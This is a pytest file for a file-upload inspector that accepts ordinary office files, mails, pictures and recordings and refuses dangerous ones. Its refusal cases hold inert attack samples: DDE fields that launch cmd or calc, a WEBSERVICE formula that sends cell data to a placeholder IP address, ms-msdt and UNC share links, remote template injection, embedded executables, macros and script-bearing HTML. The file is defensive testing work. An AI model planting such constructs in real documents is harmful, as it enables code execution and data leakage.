"""What office programs, mail programs and telephones write is taken; what runs, fetches or carries a program in it is not."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import pytest
from PIL import Image

from hoiam.vault.errors import UploadRefused
from hoiam.vault.uploads import inspect
from hoiam.vault.uploads.older_office import unpacked_rich_text
from hoiam.vault.uploads.sentences import told_of
from vault.verdicts import verdict_on
from vault.written import OFFICE, portable, relation, relations, word, zipped
from vault.written_kinds import (
    FILM,
    RECORDINGS,
    attachment,
    book,
    box,
    compound,
    doc,
    doc_streams,
    field,
    mail,
    message,
    native,
    open_document,
    page,
    part,
    record,
    slides,
    xls,
)

PROGRAM = b"MZ\x90\0\3\0\0\0" + bytes(300)
ARCHIVE = zipped({"x": b"y"})


def picture(kind: str, **how: object) -> bytes:
    out = io.BytesIO()
    Image.linear_gradient("L").convert("RGB").save(out, kind, **how)
    return out.getvalue()


PNG = picture("PNG")


def far(kind: str, target: str = "http://192.0.2.7/x") -> str:
    return relation(kind, target, "External")


def rtf(inside: str) -> bytes:
    return b"{\\rtf1\\ansi " + inside.encode() + b"}"


def linked(target: str) -> bytes:
    """A link of a sheet, as Excel 97 keeps it."""
    raw = (target + "\0").encode("utf-16-le")
    url = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
    return record(0x1B8, bytes(24) + b"\2\0\0\0\3\0\0\0" + url + len(raw).to_bytes(4, "little") + raw)


def forwarded(inner: bytes) -> bytes:
    """A mail with another one in it, as it is."""
    return mail("Content-Type: message/rfc822\r\n\r\n" + inner.decode().replace("ranh-gioi", "trong"))


def other_book(path: str) -> bytes:
    return record(0x1AE, b"\1\0" + len(path).to_bytes(2, "little") + b"\0" + path.encode("latin-1"))


def old_book(name: bytes) -> bytes:
    """A book of Excel 5 that names another place: `name` as it is written (BIFF5, EXTERNSHEET)."""
    begins = record(0x809, b"\0\5\5\0" + bytes(4))
    return compound({"Book": (begins + record(0x17, bytes([len(name) - 1]) + name) + record(0x0A)).ljust(4096, b"\0")})


def beginning(kind: str) -> bytes:
    """Slides whose package has one relation more than the one to the slides, of this kind."""
    before = "http://schemas.openxmlformats.org/package/2006/relationships/"
    more = f'<Relationship Id="r7" Type="{before}{kind}" Target="docProps/x.xml"/>'
    with zipfile.ZipFile(io.BytesIO(slides(""))) as given:
        parts = {name: given.read(name) for name in given.namelist()}
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(b"</Relationships>", more.encode() + b"</Relationships>")
    return zipped(parts)


def binary(**more: bytes) -> bytes:
    """A book of Excel in its binary form, which says "macro enabled" of itself always."""
    kind = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
    types = f'<Types xmlns="t"><Default Extension="bin" ContentType="{kind}"/></Types>'
    return zipped(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": relations(relation("officeDocument", "xl/workbook.bin")),
            "xl/workbook.bin": b"x",
            **more,
        }
    )


def message_beside(beside: dict[str, bytes]) -> bytes:
    """A mail of Outlook, and other streams beside its own."""
    return compound({"__properties_version1.0": bytes(32), "__nameid_version1.0": {}, **beside})


TAKEN: dict[str, tuple[str, bytes, str]] = {
    "a photo of chat programs": ("a.jpg", picture("WEBP"), "webp"),
    "a moving picture": ("a.gif", picture("GIF", save_all=True, append_images=[Image.new("RGB", (256, 256))]), "gif"),
    "a picture of the new kind": ("a.avif", picture("AVIF"), "avif"),
    "a picture of an old kind": ("a.bmp", picture("BMP"), "bmp"),
    "two photos in one": ("a.mpo", picture("MPO", save_all=True, append_images=[Image.new("RGB", (8, 8))]), "jpeg"),
    "a sheet": ("a.xlsx", book(), "xlsx"),
    "a sheet that adds up": ("a.xlsx", book('<c><f>SUM(A1:B2)*IF(C1="a|b",1,[1]Sheet1!A1)</f></c>'), "xlsx"),
    "slides": ("a.pptx", slides('<a:hlinkClick action="ppaction://hlinksldjump" r:id="r1"/>'), "pptx"),
    "slides with a film": (
        "a.pptx",
        slides("", [relation("video", "../media/1.mp4")], **{"ppt/media/1.mp4": FILM}),
        "pptx",
    ),
    "a chart with its sheet inside": (
        "a.docx",
        word(
            related=[relation("package", "embeddings/1.xlsx")],
            parts={"word/embeddings/1.xlsx": book()},
            types={"xlsx": f"{OFFICE}.spreadsheetml.sheet"},
        ),
        "docx",
    ),
    "a text of LibreOffice": (
        "a.odt",
        open_document(
            '<text:a xlink:href="https://vanban.example/">x</text:a><draw:image xlink:href="Pictures/1.png"/>',
            parts={"Pictures/1.png": PNG, "Configurations2/accelerator/current.xml": b"", "layout-cache": b"\0\1"},
        ),
        "odt",
    ),
    "a sheet of LibreOffice": (
        "a.ods",
        open_document('<table:table-cell table:formula="of:=SUM([.A1:.B2])"/>', kind="spreadsheet"),
        "ods",
    ),
    "a text of the first office programs, which name a type": (
        "a.odt",
        open_document(
            parts={"styles.xml": '<!DOCTYPE office:x PUBLIC "-//OpenOffice.org//DTD" "office.dtd"><x/>'},
        ),
        "odt",
    ),
    "an old text of Word": ("a.doc", doc(field('HYPERLINK "https://vanban.example/" \x01') + field("PAGE")), "doc"),
    "an old text with a template at hand": ("a.doc", doc(template="C:\\Mau\\don.dot"), "doc"),
    "an old text with a sheet in it": (
        "a.doc",
        doc(
            field("EMBED Excel.Sheet.8"),
            ObjectPool={"_1": {"Workbook": record(0x809, b"\0\6\5\0" + bytes(12)), "\x03ObjInfo": b"x"}},
        ),
        "doc",
    ),
    "a mail of Outlook with its place on the screen": (
        "a.msg",
        message_beside({"OLK10SideProps_0001": b"x"}),
        "outlook",
    ),
    "a sheet of Excel 5 that names its own sheets": ("a.xls", old_book(b"\3Bang ke"), "xls"),
    "a sheet of LibreOffice with rows of numbers, and an object in a folder": (
        "a.ods",
        open_document(
            '<table:table-cell table:formula="of:=TYPE({1;2|3;4})"/><draw:object xlink:href="Object 1/"/>', kind="spreadsheet"
        ),
        "ods",
    ),
    "a template of Office, with places to type in": ("a.dot", doc(field("MACROBUTTON DoFieldClick [Ten]")), "doc"),
    "a drawing under the type that some programs give it": (
        "a.docx",
        word(
            related=[relation("image", "media/1.svg")],
            parts={"word/media/1.svg": "<svg xmlns='http://www.w3.org/2000/svg'/>"},
            types={"svg": "image/svg"},
        ),
        "docx",
    ),
    "a recording with another program's notes before it": (
        "a.flac",
        b"ID3\3\0\0\0\0\0\4abcd" + next(data for name, (_, data) in RECORDINGS.items() if name.endswith(".flac")),
        "flac",
    ),
    "a page with links to people, places and papers": (
        "a.html",
        b"<html><a href='https://a.example'>1</a><a href='zalo://qr/1'>2</a><a href='#x'>3</a><a href='b.html'>4</a>"
        b"<a href='file:///C:/Don/a.docx'>5</a><style>a::before{content:'\\201C'}</style>",
        "html",
    ),
    "slides of pandoc": ("a.pptx", beginning("metadata/extended-properties"), "pptx"),
    "slides of a program with a slip of the pen": ("a.pptx", beginning("meatadata/core-properties"), "pptx"),
    "a text of Word for the Mac with a drawing as a page": (
        "a.docx",
        word(
            related=[relation("image", "media/1.pdf")],
            parts={"word/media/1.pdf": portable()},
            types={"pdf": "application/pdf"},
        ),
        "docx",
    ),
    "an old text called rich": ("a.doc", rtf("Kinh gui"), "rtf"),
    "an old sheet": ("a.xls", xls(linked("https://vanban.example/"), other_book("\1\1Ddon\3x.xls")), "xls"),
    "a rich text": (
        "a.rtf",
        rtf("{\\*\\template C:\\\\Mau\\\\don.dot}{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}\\u7841?"),
        "rtf",
    ),
    "a mail": ("a.eml", mail(), "mail"),
    "a mail with a page and papers": (
        "thu.eml",
        mail(page('<img src="https://cty.example/logo.png">Chào'), part(PNG, "anh.png"), part(portable(), "don.pdf")),
        "mail",
    ),
    "a mail forwarded within a mail": (
        "a.eml",
        forwarded(mail(part(PNG, "a.png"))),
        "mail",
    ),
    "a mail of Outlook": ("a.msg", message(attached=[attachment("anh.png", PNG)]), "outlook"),
    "a page that somebody saved": (
        "a.html",
        b"<!DOCTYPE html><style>p{color:red}</style><p>x<img src='x_files/1.png'>",
        "html",
    ),
    "a page of Word": ("a.htm", b"<html><style>v\\:* {behavior:url(#default#VML);}</style><body lang=VI>x", "html"),
    "an invoice": ("hoadon.xml", "<?xml version='1.0'?><HDon><Ten>Bà Tư</Ten></HDon>".encode(), "xml"),
    "what a program says": ("chat.json", b'{"from": "0912345678", "text": "x"}', "text"),
    "a camera's notes": ("camera.log", b"12:00 x\n", "text"),
    "a calendar": ("lich.ics", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", "text"),
    "a text that begins as a program does": ("a.txt", "MZ là tên làng".encode(), "text"),
    "a text that begins as a song does": ("a.txt", b"ID3 la so nha", "text"),
    "a text that begins as a picture does": ("a.txt", b"BM 12345678901234567890", "text"),
    "a text of two bytes without a mark": ("a.txt", "Đơn khiếu nại về đất đai".encode("utf-16-le"), "text"),
    "the same, the other way round": ("a.txt", "Đơn khiếu nại về đất đai".encode("utf-16-be"), "text"),
}


@pytest.mark.parametrize(("name", "data", "kind"), TAKEN.values(), ids=TAKEN)
def test_what_people_have_is_taken(name: str, data: bytes, kind: str) -> None:
    assert verdict_on(name, data, kind=kind) == "taken"


@pytest.mark.parametrize("name", RECORDINGS)
def test_a_recording_is_kept_under_its_name_and_its_sender_is_told_that_it_stays_unseen(name: str) -> None:
    kind, data = RECORDINGS[name]
    seen = inspect(name, data)
    assert (seen.kind, seen.name, seen.unseen) == (kind, name, True)
    assert any("làm chứng cứ" in note.vi and "as evidence" in note.en for note in told_of(name, seen))
    for behind in (b"<html><script>1</script>", ARCHIVE, portable()):
        with pytest.raises(UploadRefused):
            inspect(name, data + behind)


def test_a_text_tells_in_which_encoding_it_is() -> None:
    old = "Céng hoµ x· héi chñ nghÜa ViÖt Nam §éc lËp Tù do H¹nh phóc".encode("cp1252")
    assert inspect("a.txt", old).encoding == "tcvn3"
    assert inspect("a.txt", b"Co\xe4ng ho\xf8a xa\xf5 ho\xe4i chu\xfb ngh\xf3a Vie\xe4t Nam").encoding == "vni"
    assert inspect("a.txt", "Đơn khiếu nại về đất".encode("utf-16-le")).encoding == "utf-16-le"


def test_capitals_that_an_old_encoding_keeps_among_the_controls_are_letters() -> None:
    # "CỘNG HÒA XÃ HỘI … LỊCH HỘI, PHÚ THỌ, MỸ TỤ": in VPS some of it lies below the space.
    headed = b"C\x12NG H\xbcA X\x82 H\x12I, L\x10CH H\x12I, PH\xda TH\x11, T\x14 X\x82, X\x82 H\x12I, TH\x11 H\x12I"
    assert inspect("a.txt", headed).encoding == "vps"
    with pytest.raises(UploadRefused):
        inspect("a.txt", b"Kinh gui \x02\x05\x12 \xff" * 9)


def many(width: int, height: int, **how: object) -> bytes:
    out = io.BytesIO()
    Image.new("L", (width, height), 200).save(out, "JPEG", **how)
    return out.getvalue()


def test_a_photo_of_two_hundred_million_points_is_taken_and_a_larger_one_refused_with_its_number() -> None:
    seen = inspect("a.jpg", many(12_000, 9_000))
    assert (seen.kind, seen.unseen) == ("jpeg", False)
    with pytest.raises(UploadRefused) as refused:
        inspect("a.jpg", many(60_000, 5_000))
    assert refused.value.reason == "pixels"
    assert "300 triệu" in refused.value.why.vi
    assert "300 million" in refused.value.why.en


def test_the_reason_names_what_is_inside_and_why_it_is_not_taken() -> None:
    with pytest.raises(UploadRefused) as refused:
        inspect("thu.eml", mail(part(PROGRAM, "x.pdf")))
    assert (refused.value.reason, refused.value.part, refused.value.inner) == ("attached", "x.pdf", "program")
    assert "x.pdf" in refused.value.why.vi
    assert "a program or script" in refused.value.why.en


def packed(text: bytes) -> bytes:
    """A rich text as Outlook packs it, without a reference in it."""
    body = b"".join(b"\0" + text[at : at + 8] for at in range(0, len(text), 8))
    return (len(body) + 12).to_bytes(4, "little") + len(text).to_bytes(4, "little") + b"LZFu" + bytes(4) + body


def test_the_rich_text_of_a_mail_is_unpacked_as_its_program_does() -> None:
    # The example of MS-OXRTFCP, 4.1.1.
    example = "2d0000002b0000004c5a4675f1c5c7a703000a007263706731323542320af32068656c090020627705b06c647d0a800fa0"
    assert unpacked_rich_text(bytes.fromhex(example)) == b"{\\rtf1\\ansi\\ansicpg1252\\pard hello world}\r\n"
    assert unpacked_rich_text(packed(b"{\\rtf1 Kinh gui}")) == b"{\\rtf1 Kinh gui}"
    bad = b"{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}}}"
    assert verdict_on("a.msg", message({"10090102": packed(bad)}), kind="outlook") == "embedded"


REFUSED: dict[str, tuple[str, bytes, str]] = {
    "a sheet that asks the web": ("a.xlsx", book('<c><f>_xlfn.WEBSERVICE("http://192.0.2.7/"&amp;A1)</f></c>'), "field"),
    "a sheet that asks a program": ("a.xlsx", book("<c><f>cmd|' /C calc'!A0</f></c>"), "field"),
    "a sheet with macros of old": ("a.xlsx", book(names='<definedName name="a" xlm="1">A1</definedName>'), "macros"),
    "a sheet with a connection": ("a.xlsx", book(related=[relation("connections", "connections.xml")]), "field"),
    "a sheet that is linked to a share": (
        "a.xlsx",
        book(**{"xl/externalLinks/_rels/1.xml.rels": relations(far("externalLinkPath", "\\\\192.0.2.7\\x.xlsx"))}),
        "remote",
    ),
    "slides that start a program": ("a.pptx", slides('<a:hlinkClick action="ppaction://program" r:id="r1"/>'), "link"),
    "slides that run a macro": ("a.pptx", slides('<a:hlinkClick action="ppaction://macro?name=x"/>'), "link"),
    "slides with a film elsewhere": ("a.pptx", slides("", [far("video", "http://192.0.2.7/x.mp4")]), "remote"),
    "slides with a film that is a program": (
        "a.pptx",
        slides("", [relation("video", "../media/1.mp4")], **{"ppt/media/1.mp4": PROGRAM}),
        "embedded",
    ),
    "a program in a package": (
        "a.docx",
        word(
            related=[relation("oleObject", "embeddings/o.bin")],
            parts={"word/embeddings/o.bin": compound({"\x01Ole10Native": native("x.exe", PROGRAM)})},
            types={"bin": f"{OFFICE}.oleObject"},
        ),
        "embedded",
    ),
    "a script in a package, as a text": (
        "a.docx",
        word(
            related=[relation("oleObject", "embeddings/o.bin")],
            parts={"word/embeddings/o.bin": compound({"\x01Ole10Native": native("x.vbs", b"MsgBox 1")})},
            types={"bin": f"{OFFICE}.oleObject"},
        ),
        "embedded",
    ),
    "an equation of the old program": (
        "a.docx",
        word(
            related=[relation("oleObject", "embeddings/o.bin")],
            parts={"word/embeddings/o.bin": compound({"Equation Native": b"x"})},
            types={"bin": f"{OFFICE}.oleObject"},
        ),
        "embedded",
    ),
    "a macro of LibreOffice": (
        "a.odt",
        open_document(parts={"Basic/Standard/script-lb.xml": '<library:library><library:element library:name="M"/>'}),
        "macros",
    ),
    "an event of LibreOffice": ("a.odt", open_document('<script:event-listener script:language="x"/>'), "macros"),
    "a picture elsewhere": ("a.odt", open_document('<draw:image xlink:href="http://192.0.2.7/x.png"/>'), "remote"),
    "a frame elsewhere": ("a.odt", open_document('<draw:floating-frame xlink:href="x"/>'), "field"),
    "a table elsewhere": ("a.ods", open_document('<table:table-source xlink:href="x"/>', kind="spreadsheet"), "field"),
    "a formula that asks": (
        "a.ods",
        open_document('<table:table-cell table:formula="of:=WEBSERVICE(&quot;x&quot;)"/>', kind="spreadsheet"),
        "field",
    ),
    "a link to a macro": ("a.odt", open_document('<text:a xlink:href="vnd.sun.star.script:x"/>'), "macros"),
    "a link to a share": ("a.odt", open_document('<text:a xlink:href="\\\\192.0.2.7\\x.odt"/>'), "link"),
    "a program among its pictures": ("a.odt", open_document(parts={"Pictures/1.png": PROGRAM}), "embedded"),
    "one that declares something": (
        "a.odt",
        open_document(parts={"styles.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x/>'}),
        "opaque",
    ),
    "an old text that fetches": ("a.doc", doc(field('INCLUDEPICTURE "http://192.0.2.7/x.png"')), "remote"),
    "an old text that asks a program": ("a.doc", doc(field("DDEAUTO c:\\\\cmd.exe x")), "field"),
    "an old text with a template on a share": ("a.doc", doc(template="\\\\192.0.2.7\\x.dot"), "remote"),
    "an old text with macros": ("a.doc", doc(Macros={"VBA": {"dir": b"x"}}), "macros"),
    "an old text under a lock": ("a.doc", doc(flags=0x300), "password"),
    "an old text with a program in it": (
        "a.doc",
        doc(ObjectPool={"_1": {"\x01Ole10Native": native("x.exe", PROGRAM)}}),
        "embedded",
    ),
    "an old text with a part that is not known": ("a.doc", doc(La=b"x"), "foreign part"),
    "an old sheet with macros": ("a.xls", xls(_VBA_PROJECT_CUR={"VBA": {"dir": b"x"}}), "macros"),
    "an old sheet with macros of old": ("a.xls", xls(record(0x85, bytes(4) + b"\0\1\1\0M")), "macros"),
    "an old sheet under a lock": ("a.xls", xls(record(0x2F, bytes(6))), "password"),
    "an old sheet under a lock of later years": ("a.xls", xls(encryption=b"x"), "password"),
    "a sheet of Excel 5 that asks a program": ("a.xls", old_book(b"cmd\3/c calc"), "field"),
    "a sheet of Excel 5 that asks a program as a sheet of its own": ("a.xls", old_book(b"\3cmd|/c calc"), "field"),
    "a sheet of LibreOffice that asks a program among its rows": (
        "a.ods",
        open_document('<table:table-cell table:formula="of:={1}+cmd|{1}"/>', kind="spreadsheet"),
        "field",
    ),
    "a drawing with a script under the type that some programs give it": (
        "a.docx",
        word(
            related=[relation("image", "media/1.svg")],
            parts={"word/media/1.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>"},
            types={"svg": "image/svg"},
        ),
        "macros",
    ),
    "a mail with a file packed in an old way": (
        "a.eml",
        mail("Content-Type: image/png\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\nbegin 644 a.png\r\n`\r\nend\r\n"),
        "attached",
    ),
    **{
        f"a page whose style fetches by numbers of letters: {each}": ("a.html", f"<html>{each}".encode(), "page")
        for each in (
            "<style>@\\69mport '//192.0.2.7/x'</style>",
            "<p style='background:u\\72l(//192.0.2.7/x)'>",
            "<p style='x:e\\78 pression(1)'>",
        )
    },
    **{
        f"a page with a link to {each}": ("a.html", f"<html><a href='{each}'>x</a>".encode(), "link")
        for each in (
            "ms-msdt:/id x",
            "search-ms:query=x&crumb=location:x",
            "file:///C:/Windows/System32/calc.exe",
            "\\\\192.0.2.7\\x",
            "FI&#10;LE://192.0.2.7/x",
        )
    },
    "a mail with a link that starts Office": ("a.eml", mail(page('<a href="ms-word:ofe|u|http://192.0.2.7/x">x</a>')), "link"),
    "an appointment of Outlook with its sound on a share": (
        "a.msg",
        message({"851F001F": "\\\\192.0.2.7\\x.wav".encode("utf-16-le")}),
        "remote",
    ),
    "a binary sheet without macros": ("a.xlsb", binary(), "office"),
    "a binary sheet with macros": ("a.xlsb", binary(**{"xl/vbaProject.bin": b"x"}), "macros"),
    "a binary sheet with macros of old": ("a.xlsb", binary(**{"xl/macrosheets/sheet1.bin": b"x"}), "macros"),
    "an old sheet that asks a program": ("a.xls", xls(other_book("cmd\3/c calc")), "field"),
    "an old sheet with a book on a share": ("a.xls", xls(other_book("\1\1@may\3chung\3x.xls")), "remote"),
    "an old sheet with a link to a share": ("a.xls", xls(linked("\\\\192.0.2.7\\x.xls")), "link"),
    "an old sheet with a query": ("a.xls", xls(record(0x876, bytes(9))), "field"),
    "a locked document": ("a.docx", compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), "password"),
    "another thing in that container": ("a.doc", compound({"Contents": b"x"}), "office"),
    "a container cut short": ("a.doc", doc()[:1100], "broken"),
    "a rich text with an object": ("a.rtf", rtf("{\\object\\objemb{\\*\\objdata 0105}}"), "embedded"),
    "a rich text with a template elsewhere": ("a.rtf", rtf("{\\*\\template http://192.0.2.7/x.dot}"), "remote"),
    "a rich text that spells its template": ("a.rtf", rtf("{\\*\\template \\'5c\\'5c192.0.2.7\\'5cx}"), "remote"),
    "a rich text that fetches": ("a.rtf", rtf('{\\field{\\*\\fldinst {INCLUDE}{\\b PICTURE "http://192.0.2.7/x"}}}'), "remote"),
    "a rich text that asks a program": ("a.rtf", rtf("{\\field{\\*\\fldinst DDE\\u65?UTO cmd x}}"), "field"),
    "a rich text that never ends": ("a.rtf", rtf("x")[:-1], "broken"),
    "a rich text with a program behind it": ("a.rtf", rtf("x") + PROGRAM, "tail"),
    "a mail with a program": ("a.eml", mail(part(PROGRAM, "x.txt")), "attached"),
    "a mail with what is called a program": ("a.eml", mail(part(b"echo", "x.bat")), "attached"),
    "a mail with an archive": ("a.eml", mail(part(ARCHIVE, "x.docx")), "attached"),
    "a mail with a script in its page": ("a.eml", mail(page("<script>1</script>")), "page"),
    "a mail with a share in its page": ("a.eml", mail(page('<img src="\\\\192.0.2.7\\x.png">')), "page"),
    "a mail whose part lies elsewhere": ("a.eml", mail("Content-Type: message/external-body\r\n\r\nx"), "remote"),
    "a mail with a macro two mails deep": (
        "a.eml",
        forwarded(mail(part(word(parts={"word/vbaProject.bin": b"x"})))),
        "attached",
    ),
    "a mail with two kinds of one part": (
        "a.eml",
        mail("Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\nx"),
        "opaque",
    ),
    "a mail of Outlook with a program": ("a.msg", message(attached=[attachment("x.pdf", PROGRAM)]), "attached"),
    "a mail of Outlook with what is called one": ("a.msg", message(attached=[attachment("x.js", b"1")]), "attached"),
    "a mail of Outlook with a script": ("a.msg", message({"10130102": b"<html><script>1</script>"}), "page"),
    "a mail in a mail of Outlook": (
        "a.msg",
        message(
            attached=[
                {
                    "__substg1.0_3701000D": {
                        "__properties_version1.0": bytes(32),
                        "__attach_version1.0_#00000000": attachment("x.exe", b"x"),
                    }
                }
            ]
        ),
        "attached",
    ),
    "a page with a script": ("a.html", b"<html><body><script src='x.js'></script>", "page"),
    "a page with a script within a comment that ends early": (
        "a.html",
        b'<html><!-- <a b=" --><script>1</script><!-- "> -->',
        "page",
    ),
    "a page that acts": ("a.html", b"<html><body onload=alert(1)>", "page"),
    "a page with a link that acts": ("a.html", b"<html><a href='java&#115;cript:alert(1)'>x", "page"),
    "a page with a picture elsewhere": ("a.html", b"<html><img src=//192.0.2.7/x>", "page"),
    "a page with a style elsewhere": ("a.html", b"<html><style>p{background:url(http://192.0.2.7/x)}</style>", "page"),
    "a page that leads on": ("a.html", b"<html><meta http-equiv=Refresh content='0;URL=http://192.0.2.7'>", "page"),
    "a page in an encoding that hides": ("a.html", b"<html><meta charset=utf-7>+ADw-script+AD4-", "opaque"),
    "XML that is a page": (
        "a.xml",
        b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script/></html>",
        "page",
    ),
    "XML that fetches its looks": ("a.xml", b"<?xml version='1.0'?><?xml-stylesheet href='http://192.0.2.7'?><a/>", "remote"),
    "XML of an office program": (
        "a.xml",
        b"<?xml version='1.0'?><?mso-application progid='Word.Document'?><w:wordDocument xmlns:w='http://schemas.microsoft.com/office/word/2003/wordml'/>",
        "office",
    ),
    "XML that declares": ("a.xml", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>", "opaque"),
    "a film that carries files": (
        "a.mkv",
        RECORDINGS["phim.webm"][1].replace(b"\x18\x53\x80\x67\xff", b"\x18\x53\x80\x67\xff\x19\x41\xa4\x69\x81x"),
        "embedded",
    ),
    "a film without its pictures": ("a.mp4", FILM[:-408], "broken"),
    "a film with a page in it": ("a.mp4", FILM + box(b"free", b"<html>"), "tail"),
    "a script that begins as a recording does": ("a.amr", b"#!/bin/sh\nx\n", "program"),
    "a moving picture with a page behind it": ("a.gif", picture("GIF") + b"<html><script>1", "tail"),
    "a picture with an archive behind it": ("a.webp", picture("WEBP") + ARCHIVE, "tail"),
    "a recording of a kind that is not taken": ("a.wma", b"\x30\x26\xb2\x75\x8e\x66\xcf\x11" + bytes(99), "sound"),
    "a message that only its receiver opens": (
        "smime.p7m",
        bytes.fromhex("3080") + bytes.fromhex("06092a864886f70d010703") + bytes(50),
        "password",
    ),
}


@pytest.mark.parametrize(("name", "data", "reason"), REFUSED.values(), ids=REFUSED)
def test_what_runs_fetches_or_carries_a_program_is_refused_in_every_kind(name: str, data: bytes, reason: str) -> None:
    assert verdict_on(name, data, kind="") == reason


CARRIERS: dict[str, tuple[str, Callable[[str, bytes], bytes], str]] = {
    "a mail": ("a.eml", lambda name, data: mail(part(data, name)), "attached"),
    "a mail of Outlook": ("a.msg", lambda name, data: message(attached=[attachment(name, data)]), "attached"),
    "an old text": ("a.doc", lambda name, data: doc(ObjectPool={"_1": {"\x01Ole10Native": native(name, data)}}), "embedded"),
    "a text of LibreOffice": ("a.odt", lambda name, data: open_document(parts={f"Object/{name}": data}), "embedded"),
}


@pytest.mark.parametrize("carrier", CARRIERS)
def test_what_is_carried_comes_in_by_the_same_door(carrier: str) -> None:
    name, make, reason = CARRIERS[carrier]
    honest = {case: row for case, row in TAKEN.items() if row[0].endswith((".docx", ".xls", ".eml", ".webp", ".png", ".txt"))}
    for case, (called, data, _) in honest.items():
        assert inspect(name, make(called, data)).name == name, case
    for called, data, why in [row for row in REFUSED.values() if row[0].endswith((".docx", ".odt", ".doc", ".gif"))]:
        if why == "office":
            continue  # what stands in it counts there, not what is around it
        with pytest.raises(UploadRefused) as refused:
            inspect(name, make(called, data))
        assert refused.value.reason == reason


def test_mails_within_mails_have_an_end() -> None:
    deep = b"Kinh gui"
    for _ in range(9):
        deep = mail(part(deep, "thu.eml"))
    assert verdict_on("a.eml", deep, kind="mail") == "tangled"


def test_a_document_of_streams_that_share_their_sectors_is_weighed() -> None:
    """One long chain that many streams name would be read again for each."""
    streams = {f"s{number}": bytes(4096) for number in range(40)}
    data = bytearray(compound(doc_streams() | {"ObjectPool": {name: {"Package": value} for name, value in streams.items()}}))
    assert verdict_on("a.doc", bytes(data), kind="doc") in ("embedded", "tangled")
